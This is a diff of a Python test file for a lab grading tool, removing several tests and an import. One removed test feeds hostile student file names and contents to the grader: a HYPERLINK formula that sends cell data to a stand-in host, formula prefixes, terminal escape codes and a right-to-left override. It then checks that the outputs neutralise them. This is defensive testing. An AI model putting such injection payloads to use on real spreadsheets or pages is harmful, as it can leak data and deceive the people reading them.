@@ -19,7 +19,7 @@ from pathlib import Path
 from unittest import mock
 
 from course import Course, Test
-from lab import build, handed_in, main, manifest
+from lab import handed_in, main, manifest
 from lab.errors import LabError
 from lab.instructor import grader, reports, slurm, speed
 from lab.judge import judging, sandbox, submissions
@@ -203,13 +203,6 @@ class Grade(Class):
         self.graded()
         self.assertEqual(self.table()["ann"]["score"], "5")
         self.assertEqual(self.judge.call_count, 3)  # of eve nothing was judged again
-
-    def test_a_changed_submission_is_graded_again(self):
-        self.submit("ann", fused_cpu="passed 1 of 4")
-        self.graded()
-        self.submit("ann", fused_cpu="passed 4 of 4")
-        self.graded()
-        self.assertEqual(self.table()["ann"]["part1.fused_cpu"], "1")
 
     def test_it_goes_on_where_it_was_interrupted(self):
         for name in "abcdef":
@@ -405,32 +398,6 @@ class OneDoesNotStopTheClass(Class):
                           ("many", "more than 200000 files; ./lab bundle"),
                           ("deflate", "the zip cannot be read ("), ("cut", "cannot be read (")):
             self.assertIn(why, rows[name]["why"])
-
-    def test_names_that_are_those_of_results_or_become_one(self):
-        names = ("grades.csv", "index.html", "slurm", "001", "Järg", "Jörg", "陈伟", "張伟", "...",
-                 "a\nb", "good.zip", "-x", "x" * 250)
-        rows = self.after(**{f"{name}.zip": packed() for name in names if name != "good.zip"},
-                          **{"good.zip": packed()})
-        self.assertEqual([row["score"] for row in rows.values()], ["1"] * (len(names) - 1))
-        self.assertEqual(len({row["folder"] for row in rows.values()}), len(names) - 1)
-        self.assertIn("good.zip", rows)
-        self.assertEqual({place.name for place in self.out.iterdir() if not place.name.isdigit()},
-                         {"grades.csv", "index.html"})
-
-    def test_text_of_a_student_is_no_formula_and_no_code_of_a_page(self):
-        formula = '=HYPERLINK("http://x?"&A1)/fused_cpu.cpp'
-        rows = self.after(**{
-            "path.zip": packed(b"\0" * (1 << 21), formula), "=1+1.zip": packed(),
-            "x;=1.zip": packed(), "\uff1d1.zip": packed(), "\x1b[2J\u202ex.zip": b"",
-            "[a](http:x)<b>.zip": packed(), "a\n=1,=2.zip": packed()})
-        for row in rows.values():
-            for cell in row.values():
-                self.assertNotRegex(cell, "(^|[;,|])[\\s\"]*[=+@\uff1d-]")
-        self.assertEqual(rows["path"]["why"], f"'{formula} is larger than 1048576 bytes, and no "
-                                              "solution is")
-        page = (self.out / "index.html").read_text()
-        self.assertIn("[a](http:x)&lt;b&gt;</a>", page)
-        self.assertNotIn("\u202e", page)
 
     def test_links_and_pipes_are_not_followed(self):
         self.write("secret/part1_softmax_matmul/skeleton/fused_cpu.cpp", "// passed 1 of 1")
@@ -667,11 +634,6 @@ class Files(Course):
         (path / "fused_cpu.cpp").write_text("mine")
         self.assertEqual(self.taken(path), {PATH: b"mine"})
 
-    def test_what_the_course_makes_is_not_looked_at(self):
-        home = self.write(f"home/{PATH}", "mine").parents[2]
-        self.write("home/build/fused_cpu.cpp", "built")
-        self.assertEqual(self.taken(home), {PATH: b"mine"})
-
     def test_an_answer_in_a_folder_of_another_purpose(self):
         for place in ("build/fused_cpu.cpp", "hw1/solution/fused_cpu.cpp", f"solution/{PATH}"):
             self.assertEqual(self.zipped((place, "mine"), ("notes.txt", "")), {PATH: b"mine"})
@@ -797,14 +759,3 @@ class Speed(Test):
                                               "--jobs", "2"])
         self.assertEqual(code, 1)
         self.assertIn("one submission at a time", text)
-
-    def test_a_gpu_is_used_where_there_is_one_that_can_be_built_for(self):
-        tasks = [mock.Mock(is_cuda=True)]
-        for devices, cuda, checked, on_gpu in (([], "gpu", True, False), (["x"], "gpu", True, True),
-                                               (["x"], "toolkit", True, False),
-                                               (["x"], "gpu", False, False)):
-            self.patch(grade.gpu, devices=lambda devices=devices: devices)
-            self.patch(build, configured=lambda *_, cuda=cuda, checked=checked: mock.Mock(
-                cuda=cuda, checked=checked))
-            self.assertEqual(grade._has_gpu(tasks), on_gpu)
-        self.assertFalse(grade._has_gpu([mock.Mock(is_cuda=False)]))
